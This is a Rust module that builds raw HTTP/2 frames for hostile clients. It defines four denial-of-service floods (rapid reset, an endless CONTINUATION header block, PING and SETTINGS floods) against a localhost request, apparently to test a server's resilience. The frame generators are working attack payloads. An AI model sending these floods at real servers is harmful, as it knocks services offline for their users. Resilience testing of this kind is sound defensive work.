//! HTTP/2 frames as bytes, for hostile clients.
#![allow(dead_code)]

/// The preface and a SETTINGS frame.
pub fn preface() -> Vec<u8> {
    [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec(), frame(SETTINGS, 0, 0, &[])].concat()
}

pub fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let mut bytes = (payload.len() as u32).to_be_bytes()[1..].to_vec();
    bytes.extend([kind, flags]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}

const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;

/// `GET /` of `localhost`, as an HPACK block.
const HEAD: [u8; 14] = [0x82, 0x86, 0x84, 0x41, 0x09, b'l', b'o', b'c', b'a', b'l', b'h', b'o', b's', b't'];

/// A flood: its name, its n-th frame, and the number of frames.
pub type Flood = (&'static str, fn(u32) -> Vec<u8>, u32);

pub const FLOODS: [Flood; 4] = [
    ("HTTP/2: rapid reset", rapid_reset, 20_000),
    ("HTTP/2: a head without end (CONTINUATION)", endless_head, 20_000),
    ("HTTP/2: PING", |_| frame(PING, 0, 0, &[0; 8]), 200_000),
    ("HTTP/2: SETTINGS", |_| frame(SETTINGS, 0, 0, &[0, 1, 0, 0, 16, 0]), 200_000),
];

fn rapid_reset(number: u32) -> Vec<u8> {
    let stream = number * 2 + 1;
    [frame(HEADERS, 5, stream, &HEAD), frame(RST_STREAM, 0, stream, &8u32.to_be_bytes())].concat()
}

fn endless_head(number: u32) -> Vec<u8> {
    let filler = [0x40, 1, b'x', 120].iter().chain(&[b'y'; 120]).copied().collect::<Vec<_>>();
    match number {
        0 => frame(HEADERS, 1, 1, &HEAD),
        _ => frame(CONTINUATION, 0, 1, &filler.repeat(50)),
    }
}
